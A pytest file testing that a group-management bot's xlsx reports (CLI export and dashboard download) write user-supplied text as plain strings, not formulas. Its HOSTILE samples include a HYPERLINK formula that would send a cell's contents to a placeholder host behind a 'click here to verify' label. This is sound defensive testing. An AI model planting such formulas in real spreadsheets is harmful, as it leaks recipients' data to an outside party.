"""Spreadsheet formula injection: every text cell of the commission's xlsx (CLI and dashboard
download alike, every sheet) is written as text and reads back exactly as typed."""
from __future__ import annotations

import io
from datetime import timedelta

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from typer.testing import CliRunner

from bot.app import create_app
from storage import audit
from storage.models import FindingRecord, Group, Membership, Person
from tests.dashboard.conftest import IN_WEEK, NOW
from tests.dashboard.test_dashboard_auth import ORIGIN, login

HOSTILE = {
    "=": '=HYPERLINK("http://x/?d="&A2,"点此核对")',
    "=1": "=1+1",
    "+": "+1+1",
    "-": "-1+1",
    "@": "@SUM(A1:A9)",
}


def _hostile_state(db) -> None:
    with db.session() as s:
        for i, (tag, value) in enumerate(HOSTILE.items()):
            pid = f"p{i}"
            s.add(Person(id=pid, name=value, unit=value, role="cadre", created_at=NOW - timedelta(days=300)))
            s.flush()
            t = NOW - timedelta(days=100)
            s.add(Group(id=f"h{i}", platform="wecom", name=value, unit=value, category=value[:32], purpose=value,
                        owner_id=pid, created_at=t, first_seen_at=t, registered_at=t, status="active",
                        member_count=1, message_count=1, ritual_count=0, keep_count=0, last_work_at=t, updated_at=t))
            s.flush()
            s.add(Membership(group_id=f"h{i}", person_id=pid, joined_at=t))
            audit.record(s, actor=value, action="keep", at=IN_WEEK, group_id=f"h{i}", reason=value)
            s.add(FindingRecord(key=f"hk{i}", kind="zombie", group_ids=[f"h{i}"], person_ids=[pid], score=1.0,
                                action="warn", reasons=[value], status="open", first_seen=IN_WEEK, last_seen=IN_WEEK))


def _check_workbook(data, *, week: bool = True) -> None:
    wb = load_workbook(data)
    seen: set[str] = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.data_type, cell.value)
                    seen.add(cell.value)
                else:
                    assert cell.data_type == "n", (ws.title, cell.coordinate, cell.data_type, cell.value)
    for value in HOSTILE.values():
        assert value in seen, value  # read back exactly as typed (name, unit, purpose, reason, actor)
    # a finding's reason and a group name joined with others are still the typed text
    ledger = {r[0]: r for r in wb["台账"].iter_rows(min_row=2, values_only=True)}
    for i, value in enumerate(HOSTILE.values()):
        assert ledger[f"h{i}"][1] == value and ledger[f"h{i}"][4] == value
    if week:  # the audit records lie in last week
        audit_rows = list(wb["处置记录"].iter_rows(min_row=2, values_only=True))
        assert set(HOSTILE.values()) <= {r[2] for r in audit_rows}  # actor
        assert set(HOSTILE.values()) <= {r[5] for r in audit_rows}  # reason


@pytest.fixture
def hostile(known):
    _hostile_state(known)
    return known


def test_cli_xlsx_writes_text_not_formulas(hostile, monkeypatch, tmp_path):
    from bot import cli as cli_module
    from bot.runtime import Runtime
    from config.settings import get_settings

    monkeypatch.setenv("QUNZHI_DATABASE_URL", hostile.url)
    get_settings.cache_clear()
    monkeypatch.setattr(cli_module, "runtime", lambda: Runtime(get_settings(), db=hostile, clock=lambda: NOW))
    out = tmp_path / "r.xlsx"
    try:
        res = CliRunner().invoke(cli_module.app, ["report", "--format", "xlsx", "--out", str(out)])
    finally:
        get_settings.cache_clear()
    assert res.exit_code == 0, res.output
    _check_workbook(out)


def test_dashboard_xlsx_writes_text_not_formulas(hostile, runtime, clock):
    clock.set(NOW)
    with TestClient(create_app(runtime=runtime, start_scheduler=False), base_url=ORIGIN) as c:
        login(c)
        for period in ("week", "month"):
            r = c.get(f"/dashboard/download/report.xlsx?period={period}")
            assert r.status_code == 200
            _check_workbook(io.BytesIO(r.content), week=period == "week")
